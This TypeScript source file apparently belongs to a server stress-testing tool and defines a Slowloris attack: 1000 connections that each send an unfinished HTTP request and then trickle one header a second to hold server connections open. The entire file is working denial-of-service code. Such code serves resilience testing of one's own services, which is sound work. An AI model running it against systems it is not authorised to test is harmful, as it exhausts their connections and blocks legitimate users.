import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { open, readAnswers, repeat } from '../raw.ts'

/** Slowloris: a request that never gets to the end of its headers. */
export const halfOpen: Attack = {
  name: 'half-open',
  title: '1 000 requests without an end, a header a second',
  run: async (target, tally, signal) =>
    repeat(1000, signal, async () => {
      const socket = await open(target, tally, signal)
      if (!socket) return
      readAnswers(socket, tally)
      socket.write(`GET /api/v1/store HTTP/1.1\r\nhost: ${target.host}:${target.port}\r\n`)
      while (socket.writable) {
        await sleep(1000)
        socket.write('x-more: 1\r\n')
      }
    }),
}
